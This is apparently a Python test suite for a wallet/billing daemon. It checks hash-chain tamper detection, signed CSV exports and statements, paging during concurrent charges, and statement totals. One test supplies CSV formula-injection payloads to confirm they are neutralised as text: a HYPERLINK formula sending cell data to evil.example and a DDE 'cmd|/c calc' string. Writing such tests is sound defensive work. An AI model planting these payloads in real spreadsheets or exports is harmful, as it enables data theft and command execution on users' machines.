"""export: every transaction once, in id order, while clients charge; walletctl
export --csv as RFC 4180, resumable; created_at never decreasing with the id."""
import csv
import decimal
import io
import os
import random
import subprocess
import threading
import time

from harness import DaemonTest, WALLETCTL, chain_breaks, request, read_frames, set_clock, utc
import walletd  # noqa: E402 (harness puts contrib/python on the path)

D = decimal.Decimal
UG = "+256712345678"


class HashChain(DaemonTest):
    def test_every_transaction_is_chained_as_the_readme_says_and_verify_finds_a_broken_link(self):
        d = self.d
        self.seed("10")
        d.ctl_json("wallet", "create", "beta", "USD")
        d.ctl_json("credit", "beta", "5", "opening, with a comma, and \"quotes\" \u00e9")
        d.ctl_json("rate", "set", "default", "whatsapp", "256", "0.02", "USD", "--settle", "delivery")
        with d.client() as c:
            for i in range(6):
                c.charge(wallet=("acme", "beta")[i % 2], channel="sms", to=UG, ref="c%d" % i, text="hi %d" % i)
            c.charge(wallet="acme", channel="whatsapp", to=UG, ref="w1")
            c.call("delivery", wallet="acme", ref="w1", status="delivered")
            tp = c.call("topup.create", wallet="beta", amount="2")
            c.call("topup.confirm", ref=tp["ref"], amount="2", provider="paystack", provider_ref="PS-9")
        d.ctl_json("refund", "acme", "--ref", "c0")
        d.ctl_json("debit", "beta", "1", "fee")
        txns = [t for w in ("acme", "beta") for t in d.ctl_json("history", w, "--limit", "100")["transactions"]]
        self.assertEqual((len(txns), chain_breaks(txns)), (12, []))
        exported = d.ctl_json("export", "--limit", "100")["transactions"]
        self.assertEqual({t["id"]: t["hash"] for t in exported}, {t["id"]: t["hash"] for t in txns})
        st = d.ctl_json("statement", "beta", "--from", "2026-01-01", "--until", "2100-01-01")["transactions"]
        self.assertEqual(chain_breaks(st), [])  # a statement from a wallet's first transaction recomputes alone
        victim, after = sorted(t["id"] for t in txns if t["wallet"] == "acme")[2:4]
        # someone edits one hash in the store (live: a restart would put the store back to its checkpoint)
        dump = subprocess.run(["mdb_dump", "-s", "txns", d.store], capture_output=True, text=True, check=True).stdout
        key = " " + victim.to_bytes(8, "little").hex() + "\n "
        i = dump.index(key) + len(key) + 2 * 48  # the hash follows the record's 48-byte head
        tampered = dump[:i] + ("0" if dump[i] != "0" else "1") + dump[i + 1:]
        subprocess.run(["mdb_load", "-s", "txns", d.store], input=tampered, text=True, check=True)
        v = d.ctl_json("verify")  # names it, and the one after it, whose link it breaks
        self.assertEqual((v["ok"], sorted((b["wallet"], b["txn"]) for b in v["breaches"])),
                         (False, [("acme", victim), ("acme", after)]))
        self.assertIn("hash chain", v["breaches"][0]["problem"])
        subprocess.run(["mdb_load", "-s", "txns", d.store], input=dump, text=True, check=True)
        self.assertTrue(d.ctl_json("verify")["ok"])

    def verdicts(self, path, key):
        """walletctl verify-statement's and the Python client's verdicts on the CSV at path: (exit, message) each."""
        r = self.d.ctl("verify-statement", path, "--key", key)
        try:
            py = (0, "%d transactions" % walletd.verify_statement(path, key))
        except walletd.StatementError as e:
            py = (1, str(e))
        return (r.returncode, (r.stdout + r.stderr).strip()), py

    def test_a_statement_or_export_csv_verifies_offline_and_a_changed_removed_or_moved_row_is_named(self):
        d = self.d
        self.seed("10")
        d.ctl_json("wallet", "create", "beta", "USD")
        d.ctl_json("credit", "beta", "5", "opening, with a comma,\r\nand \"quotes\" \u00e9")
        d.ctl_json("debit", "acme", "1", "=HYPERLINK(\"x\") and a ' too")
        d.ctl_json("debit", "acme", "1", "'quoted")
        with d.client() as c:
            for i in range(6):
                c.charge(wallet=("acme", "beta")[i % 2], channel="sms", to=UG, ref="c%d" % i)
        d.ctl_json("refund", "acme", "--ref", "c0")
        key = d.ctl_json("ping")["ledger_key"]
        self.assertEqual(os.stat(os.path.join(d.store, "ledger.key")).st_mode & 0o777, 0o600)
        d.restart()
        self.assertEqual(d.ctl_json("ping")["ledger_key"], key)  # made once, kept
        st = d.ctl_json("statement", "acme")
        self.assertEqual((st["head"]["id"], st["head"]["hash"], st["head"]["before"]),
                         (st["transactions"][-1]["id"], st["transactions"][-1]["hash"], "0" * 64))

        def csv_of(*args):  # its records; read as bytes: text mode would turn the \r\n in a cell into \n
            path = os.path.join(d.dir, "%s.csv" % args[0])
            with open(path, "wb") as f:
                subprocess.run([WALLETCTL, "-s", d.sock] + list(args), stdout=f, check=True)
            with open(path, newline="") as f:
                return path, list(csv.reader(f))
        statement, records = csv_of("statement", "acme", "--csv")
        self.assertEqual([r[:3] for r in records if r[0] == "#head"], [["#head", "acme", str(st["head"]["id"])]])
        ok = self.verdicts(statement, key)
        self.assertEqual((ok[0][0], ok[1]), (0, (0, "7 transactions")))
        export, records = csv_of("export", "--csv")
        self.assertEqual(self.verdicts(export, key), ((0, "verified: 11 transactions of 2 wallets, each chain "
                                                        "ending at a head signed by %s" % key), (0, "11 transactions")))
        acme = [i for i, r in enumerate(records) if r[2] == "acme"]  # acme's rows, between beta's
        r, after = acme[3], acme[4]  # records[r] is the spreadsheet's row r + 1

        def caught(changed, row, txn):
            want = "row %d (transaction %s of acme) does not verify" % (row, txn)
            for code, message in self.verdicts(self.write(changed), key):
                self.assertEqual(code, 1)
                self.assertIn(want, message)
        changed = [list(x) for x in records]
        changed[r][4] = str(D(changed[r][4]) + 1)
        caught(changed, r + 1, records[r][0])  # one amount changed
        caught(records[:r] + records[r + 1:], after, records[after][0])  # one row deleted: the next of acme's
        swapped = list(records)
        swapped[r], swapped[after] = records[after], records[r]
        caught(swapped, r + 1, records[after][0])  # two rows swapped
        last = acme[-1]  # the last row removed: every row left verifies, the head does not
        for code, message in self.verdicts(self.write(records[:last] + records[last + 1:]), key):
            self.assertEqual(code, 1)
            self.assertIn("rows of wallet acme do not end at its signed head", message)
        for code, message in self.verdicts(statement, "11" * 32):  # any other key
            self.assertEqual(code, 1)
            self.assertIn("is not signed by this key", message)

    def write(self, records):
        path = os.path.join(self.d.dir, "tampered.csv")
        with open(path, "w", newline="") as f:
            csv.writer(f, lineterminator="\r\n").writerows(records)
        return path


class Export(DaemonTest):
    def test_an_export_while_clients_charge_holds_every_transaction_once(self):
        d = self.d
        for w in ("w0", "w1", "w2", "w3"):
            self.seed("100", wallet=w)

        def client(k):
            s = d.raw()
            for b in range(10):
                items = [{"wallet": "w%d" % k, "channel": "sms", "to": UG, "ref": "c%d-%d-%d" % (k, b, i)}
                         for i in range(50)]
                s.sendall(request(b, "charge.batch", {"items": items}))
                self.assertEqual(read_frames(s, 1, timeout=60)[0][2], None)
            s.close()
        threads = [threading.Thread(target=client, args=(k,)) for k in range(4)]
        for t in threads:
            t.start()
        seen, after, done = [], 0, False
        with d.client() as c:
            while not done:  # pages while the clients charge, then to the end
                done = not any(t.is_alive() for t in threads)
                while True:
                    page = c.call("export", after_id=after, limit=37)
                    seen += page["transactions"]
                    if not page["transactions"]:
                        self.assertEqual(page["last_id"], after)
                        break
                    after = page["last_id"]
                    self.assertEqual(after, page["transactions"][-1]["id"])
        for t in threads:
            t.join()
        ids = [t["id"] for t in seen]
        self.assertEqual(ids, sorted(set(ids)))  # in id order, each once
        self.assertEqual(ids, list(range(1, len(ids) + 1)))  # none missed
        self.assertEqual(len(ids), d.ctl_json("verify")["transactions"])
        self.assertEqual(len([t for t in seen if t["type"] == "sms_charge"]), 2000)
        for w in ("w0", "w1", "w2", "w3"):  # each wallet's rows add up to its balance
            total = sum(float(t["amount"]) for t in seen if t["wallet"] == w)
            self.assertAlmostEqual(total, float(d.ctl_json("balance", w)["balance"]), places=6)
        self.assertEqual(d.ctl_json("export", "--limit", "10001", expect=1)["field"], "limit")

    def test_walletctl_export_csv_is_rfc_4180_and_resumable(self):
        d = self.d
        self.seed("10")
        d.ctl_json("credit", "acme", "2", 'goodwill, "sorry"\nline two')
        for i in range(5):
            d.ctl_json("charge", "acme", "sms", UG, "m%d" % i)
        r = subprocess.run([WALLETCTL, "-s", d.sock, "export", "--csv"], capture_output=True)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertTrue(r.stdout.startswith(b"id,created_at,wallet,type,amount,"))
        self.assertEqual(r.stdout.count(b"\r\n"), 9)  # the header, 7 rows and a head end in CRLF; the \n inside is quoted
        rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline="")))
        self.assertEqual((rows[-1]["id"], rows[-1]["created_at"]), ("#head", "acme"))  # the signed head, last
        rows = rows[:-1]
        self.assertEqual([int(x["id"]) for x in rows], list(range(1, 8)))
        self.assertEqual(rows[1]["description"], 'goodwill, "sorry"\nline two')
        self.assertEqual((rows[2]["amount"], rows[2]["to"], rows[2]["segments"]), ("-0.0094", "'" + UG, "1"))
        rest = list(csv.DictReader(io.StringIO(d.ctl("export", "--csv", "--after-id", "4").stdout, newline="")))
        self.assertEqual(rest[:-1], rows[4:])  # resumed after row 4: the same rows, once

    def test_text_a_spreadsheet_would_run_is_written_as_text_in_both_csvs(self):
        d = self.d
        self.seed("10")
        d.ctl_json("rate", "set", "default", "sms", "256", "0.01", "USD")
        supplied = {}  # (transaction id, column) -> the text as given
        with d.client() as c:
            for i, first in enumerate(["=", "+", "-", "@", "\t", "\r"]):
                reason = first + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
                t = c.call("credit", wallet="acme", amount="1", reason=reason)
                supplied[(t["id"], "description")] = reason
                ref, desc = first + "SUM(1+1)%d" % i, first + "cmd|'/c calc'!A0"
                t = c.charge(wallet="acme", channel="sms", to=UG, ref=ref, description=desc)
                supplied[(t["id"], "ref")], supplied[(t["id"], "description")] = ref, desc
                tp = c.call("topup.create", wallet="acme", amount="2")
                provider_ref = first + "PS%d" % i
                t = c.call("topup.confirm", ref=tp["ref"], amount="2", provider="paystack", provider_ref=provider_ref)
                supplied[(t["transaction"]["id"], "provider_ref")] = provider_ref
        def rows(*args):  # read as bytes: text mode would turn the \r in a cell into \n
            out = subprocess.run([WALLETCTL, "-s", d.sock] + list(args), capture_output=True, check=True).stdout
            return list(csv.DictReader(io.StringIO(out.decode(), newline="")))

        export, statement = rows("export", "--csv"), rows("statement", "acme", "--csv")
        by_id = {int(r["id"]): r for r in export if r["id"] != "#head"}
        by_id_statement = {int(r["id"]): r for r in statement if r["id"] and r["date"] != "#head"}
        for (txn, column), text in supplied.items():
            self.assertEqual(by_id[txn][column], "'" + text, column)
            if column == "description":
                self.assertEqual(by_id_statement[txn]["description"], "'" + text)
        for row in export + statement:  # no cell but a number starts as a formula would
            for column, cell in row.items():
                if (cell or "")[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    self.assertIn(column, ("amount", "balance_after", "balance", "price"), (column, cell))
                    D(cell)
        self.assertTrue(any(r["amount"].startswith("-") for r in export))  # amounts stay numbers


class ClockGoesBack(DaemonTest):
    def test_created_at_never_decreases_with_the_id(self):
        d = self.d
        t0 = utc("2026-11-15T12:00:00Z")
        clock = d.restart_with_clock(t0)
        self.seed("10")
        a = d.ctl_json("charge", "acme", "sms", UG, "a")
        set_clock(clock, t0 - 3600)  # the clock steps back an hour
        b = d.ctl_json("charge", "acme", "sms", UG, "b")
        self.assertEqual((b["id"], b["created_at"]), (a["id"] + 1, a["created_at"]))
        set_clock(clock, t0 + 60)
        c = d.ctl_json("charge", "acme", "sms", UG, "c")
        self.assertEqual(c["created_at"], "2026-11-15T12:01:00Z")
        since = d.ctl_json("history", "acme", "--since", "2026-11-15T12:00:00Z", "--type", "sms_charge")
        self.assertEqual([t["ref"] for t in since["transactions"]], ["c", "b", "a"])


class UsageReport(DaemonTest):
    def test_usage_by_country_route_channel_plan_and_wallet_adds_up(self):
        d = self.d
        day = utc("2026-11-10T00:00:00Z")
        clock = d.restart_with_clock(day - 60)  # the day before

        def at(seconds):
            set_clock(clock, day + seconds)
        self.seed("100")
        self.seed("100000", wallet="ug")  # 100,000 USD: a second wallet, same currency
        d.ctl_json("wallet", "update", "ug", "--plan", "gold")
        d.ctl_json("rate", "set", "gold", "sms", "256", "0.02", "USD")
        d.ctl_json("rate", "set", "default", "sms", "254", "0.01", "USD", "--route", "KE1")
        d.ctl_json("rate", "set", "default", "whatsapp", "1", "0.05", "USD")
        d.ctl_json("charge", "acme", "sms", UG, "before")  # outside the day
        at(10)
        d.ctl_json("charge", "acme", "sms", UG, "a1", "--segments", "3")     # 0.0282, 256, ESMS_UG
        d.ctl_json("charge", "acme", "sms", "+254712345678", "a2")           # 0.01, 254, KE1
        d.ctl_json("charge", "acme", "whatsapp", "+15551234567", "a3")       # 0.05, 1
        d.ctl_json("charge", "ug", "sms", UG, "u1", "--segments", "2")       # 0.04, 256, gold
        d.ctl_json("refund", "acme", "--ref", "a1", "--amount", "0.0094", "--refund-ref", "r1")
        d.ctl_json("refund", "acme", "--ref", "before")  # in the day, of a charge before it: its group
        at(86400)
        d.ctl_json("charge", "acme", "sms", UG, "after")  # the next day: outside
        span = ("2026-11-10", "2026-11-11")

        def report(by):
            rows = d.ctl_json("report", "usage", *span, by)["rows"]
            return {r["key"]: (r["currency"], r["messages"], r["segments"], r["charged"], r["refunded"], r["net"])
                    for r in rows}
        self.assertEqual(report("country"), {
            "1": ("USD", 1, 1, "0.05", "0", "0.05"),
            "254": ("USD", 1, 1, "0.01", "0", "0.01"),
            "256": ("USD", 2, 5, "0.0682", "0.0188", "0.0494")})
        self.assertEqual(report("route")["KE1"][3], "0.01")
        self.assertEqual(report("channel")["whatsapp"][1:4], (1, 1, "0.05"))
        self.assertEqual(report("plan")["gold"], ("USD", 1, 2, "0.04", "0", "0.04"))
        wallets = report("wallet")
        self.assertEqual(sorted(wallets), ["acme", "ug"])
        # net per wallet is what its history says the day's charges and refunds came to
        for w, row in wallets.items():
            txns = d.ctl_json("history", w, "--since", span[0], "--until", span[1], "--type", "sms_charge",
                              "--type", "whatsapp_charge", "--type", "refund")["transactions"]
            self.assertAlmostEqual(float(row[5]), -sum(float(t["amount"]) for t in txns), places=6)
            # and its statement of the day says the same
            totals = d.ctl_json("statement", w, "--from", span[0], "--until", span[1])["totals"]
            self.assertEqual(D(row[5]), -(D(totals["sms_charge"]) + D(totals["whatsapp_charge"]) +
                                          D(totals["refund"])))
        e = d.ctl_json("report", "usage", *span, "planet", expect=1)
        self.assertEqual(e["field"], "group_by")


class ClockTest(DaemonTest):
    """walletd's clock set by a file (tests/faults.so, in the plain build)."""

    def setUp(self):
        super().setUp()
        self.clock_file = self.d.restart_with_clock("2026-10-20T10:00:00Z")

    def at(self, when):
        set_clock(self.clock_file, utc(when))


class Statements(ClockTest):

    def test_a_month_statement_opening_totals_closing_messages_and_countries(self):
        d = self.d
        self.seed("100")
        d.ctl_json("rate", "set", "default", "sms", "254", "0.01", "USD")
        d.ctl_json("rate", "set", "default", "whatsapp", "1", "0.05", "USD")
        d.ctl_json("charge", "acme", "sms", UG, "oct")                         # October: before
        self.at("2026-11-01T00:00:00Z")
        d.ctl_json("charge", "acme", "sms", UG, "n1", "--segments", "3")       # 0.0282
        d.ctl_json("charge", "acme", "sms", "+254712345678", "n2")             # 0.01
        d.ctl_json("charge", "acme", "whatsapp", "+15551234567", "n3")         # 0.05
        self.at("2026-11-30T23:59:59Z")
        tp = d.ctl_json("topup", "create", "acme", "20")
        d.ctl_json("topup", "confirm", tp["ref"], "20", "paystack", "PS-3")
        d.ctl_json("debit", "acme", "1", "fee")
        d.ctl_json("refund", "acme", "--ref", "n1", "--amount", "0.0094", "--refund-ref", "p1")
        self.at("2026-12-01T00:00:00Z")
        d.ctl_json("charge", "acme", "sms", UG, "dec")                         # December: after
        s = d.ctl_json("statement", "acme", "--month", "2026-11")
        self.assertEqual((s["from"], s["until"], s["opening_balance"], s["closing_balance"]),
                         ("2026-11-01T00:00:00Z", "2026-12-01T00:00:00Z", "99.9906", "118.9118"))
        self.assertEqual(s["totals"], {"credit": "20", "sms_charge": "-0.0382", "whatsapp_charge": "-0.05",
                                       "manual_credit": "0", "manual_debit": "-1", "refund": "0.0094",
                                       "transfer_out": "0", "transfer_in": "0", "expiry": "0"})
        self.assertEqual(s["messages"], {"sms": {"count": 2, "segments": 4, "amount": "0.0382"},
                                         "whatsapp": {"count": 1, "amount": "0.05"}})
        self.assertEqual([(c["country"], c["calling_code"], c["messages"], c["segments"], c["amount"])
                          for c in s["by_country"]],
                         [("US", "1", 1, 1, "0.05"), ("KE", "254", 1, 1, "0.01"), ("UG", "256", 1, 3, "0.0282")])
        self.assertEqual([t.get("ref") for t in s["transactions"]], ["n1", "n2", "n3", tp["ref"], None, None])
        self.assertEqual(s["transactions_total"], 6)
        empty = d.ctl_json("statement", "acme", "--from", "2026-11-15", "--until", "2026-11-16")
        self.assertEqual((empty["opening_balance"], empty["closing_balance"], empty["transactions"]),
                         ("99.9024", "99.9024", []))
        r = subprocess.run([WALLETCTL, "-s", d.sock, "statement", "acme", "--month", "2026-11", "--csv"],
                           capture_output=True)
        rows = list(csv.reader(io.StringIO(r.stdout.decode(), newline="")))
        self.assertEqual(rows[0][:3], ["date", "id", "type"])
        self.assertEqual((rows[1][2], rows[1][5]), ("opening_balance", "99.9906"))
        self.assertEqual((rows[-2][2], rows[-2][5]), ("closing_balance", "118.9118"))
        self.assertEqual(rows[-1][:3], ["#head", "acme", str(s["head"]["id"])])
        self.assertEqual(len(rows), 10)

    def test_a_statement_pages_and_its_csv_holds_every_transaction(self):
        d = self.d
        self.seed("1000")
        self.at("2026-11-02T00:00:00Z")
        self.charge_sms(12345)  # more than one page of the CSV's 10,000
        self.at("2026-11-03T00:00:00Z")
        d.ctl_json("credit", "acme", "1", "late")
        pages, after = [], None
        with d.client() as c:
            while True:
                s = c.statement(wallet="acme", limit=5000, **({"after_id": after} if after else {}))
                pages.append(s)
                if s["next_after_id"] is None:
                    break
                after = s["next_after_id"]
                self.assertEqual(after, s["transactions"][-1]["id"])
            with self.assertRaises(walletd.InvalidArgument) as err:
                c.statement(wallet="acme", limit=10001)
            self.assertEqual(err.exception.field, "limit")
        self.assertEqual([len(p["transactions"]) for p in pages], [5000, 5000, 2346])
        ids = [t["id"] for p in pages for t in p["transactions"]]
        self.assertEqual(ids, sorted(set(ids)))
        self.assertEqual({p["transactions_total"] for p in pages}, {12346})
        self.assertEqual({p["closing_balance"] for p in pages}, {pages[0]["closing_balance"]})  # totals: the period's
        r = subprocess.run([WALLETCTL, "-s", d.sock, "statement", "acme", "--month", "2026-11", "--csv"],
                           capture_output=True)
        self.assertEqual(r.returncode, 0, r.stderr)
        rows = list(csv.reader(io.StringIO(r.stdout.decode(), newline="")))
        body, closing = rows[2:-2], rows[-2]  # the head last
        self.assertEqual([int(x[1]) for x in body], ids)
        self.assertEqual(D(rows[1][5]) + sum(D(x[4]) for x in body), D(closing[5]))  # the sheet adds up
        self.assertEqual(D(closing[5]), D(pages[0]["closing_balance"]))

    def test_opening_plus_totals_is_closing_for_random_histories(self):
        d = self.d
        rnd = random.Random(7)
        self.seed("50")
        d.ctl_json("rate", "set", "default", "sms", "254", "0.01", "USD")
        day = utc("2026-11-01T00:00:00Z")
        t = day
        for i in range(60):  # a random history over three weeks
            t += rnd.randrange(0, 30000)
            set_clock(self.clock_file, t)
            k = rnd.randrange(4)
            if k == 0:
                d.ctl_json("charge", "acme", "sms", rnd.choice([UG, "+254712345678"]), "r%d" % i,
                           "--segments", str(rnd.randrange(1, 4)))
            elif k == 1:
                d.ctl_json("credit", "acme", "%d.%02d" % (rnd.randrange(0, 3), rnd.randrange(1, 100)), "c")
            elif k == 2:
                d.ctl_json("debit", "acme", "0.%02d" % rnd.randrange(1, 50), "d")
            else:
                d.ctl_json("charge", "acme", "sms", UG, "x%d" % i)
                d.ctl_json("refund", "acme", "--ref", "x%d" % i)
        with d.client() as c:
            everything = c.call("export", after_id=0, limit=10000)["transactions"]
        for _ in range(25):
            a, b = sorted(rnd.randrange(day - 86400, t + 86400) for _ in range(2))
            fmt = lambda x: time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(x))  # noqa: E731
            s = d.ctl_json("statement", "acme", "--from", fmt(a), "--until", fmt(b))
            stamp = lambda tx: utc(tx["created_at"])  # noqa: E731
            before = sum(D(x["amount"]) for x in everything if stamp(x) < a)
            upto = sum(D(x["amount"]) for x in everything if stamp(x) < b)
            self.assertEqual(D(s["opening_balance"]), before)
            self.assertEqual(D(s["closing_balance"]), upto)
            self.assertEqual(D(s["opening_balance"]) + sum(D(v) for v in s["totals"].values()),
                             D(s["closing_balance"]))
            self.assertEqual(s["transactions_total"], len([x for x in everything if a <= stamp(x) < b]))


class ScheduledRates(ClockTest):
    def test_a_scheduled_rate_prices_from_its_time(self):
        d = self.d  # the clock: 2026-10-20T10:00:00Z
        self.seed("100")
        d.ctl_json("rate", "set", "default", "sms", "254", "0.01", "USD")
        s = d.ctl_json("rate", "set", "default", "sms", "254", "0.02", "USD", "--effective-from", "2026-11-01")
        self.assertEqual(s["effective_from"], "2026-11-01T00:00:00Z")
        rates = {r["prefix"]: r for r in d.ctl_json("rate", "list", "--plan", "default")["rates"]}
        self.assertEqual((rates["254"]["price"], rates["254"]["scheduled"]),
                         ("0.01", [{"effective_from": "2026-11-01T00:00:00Z", "price": "0.02", "currency": "USD"}]))
        self.assertEqual(d.ctl_json("charge", "acme", "sms", "+254712345678", "a")["amount"], "-0.01")
        with d.client() as c:  # precheck, quote and lookup price at the time asked
            self.assertEqual(c.precheck(wallet="acme", channel="sms", recipients=["+254712345678"],
                                        at="2026-11-01T00:00:00Z")["required"], D("0.02"))
            self.assertEqual(c.precheck(wallet="acme", channel="sms", recipients=["+254712345678"])["required"],
                             D("0.01"))
            self.assertEqual(c.quote(wallet="acme", channel="sms", to="+254712345678", amount="1",
                                     at="2026-11-02")["messages"], 50)
            self.assertEqual(c.rate_lookup(plan="default", channel="sms", to="+254712345678",
                                           at="2026-11-02")["price"], D("0.02"))
        # a rate card with an effective_from column, scheduled as it says
        card = os.path.join(d.dir, "card.csv")
        with open(card, "w") as f:
            f.write("plan,channel,prefix,route,price,currency,effective_from\n"
                    "gold,sms,254,,0.005,USD,\n"
                    "gold,sms,254,,0.006,USD,2026-11-15T00:00:00Z\n")
        self.assertEqual(d.ctl_json("rate", "import", card)["loaded"], 2)
        gold = d.ctl_json("rate", "list", "--plan", "gold")["rates"][0]
        self.assertEqual((gold["price"], [x["price"] for x in gold["scheduled"]]), ("0.005", ["0.006"]))
        self.at("2026-11-01T00:00:00Z")  # the day comes: charges take the new price
        self.assertEqual(d.ctl_json("charge", "acme", "sms", "+254712345678", "b")["amount"], "-0.02")
        rates = {r["prefix"]: r for r in d.ctl_json("rate", "list", "--plan", "default")["rates"]}
        self.assertEqual((rates["254"]["price"], rates["254"]["scheduled"]), ("0.02", []))
        d.ctl_json("rate", "set", "default", "sms", "254", "0.03", "USD")  # now: replaces the price in force
        self.assertEqual(d.ctl_json("charge", "acme", "sms", "+254712345678", "c")["amount"], "-0.03")
        self.assertTrue(d.ctl_json("verify")["ok"])
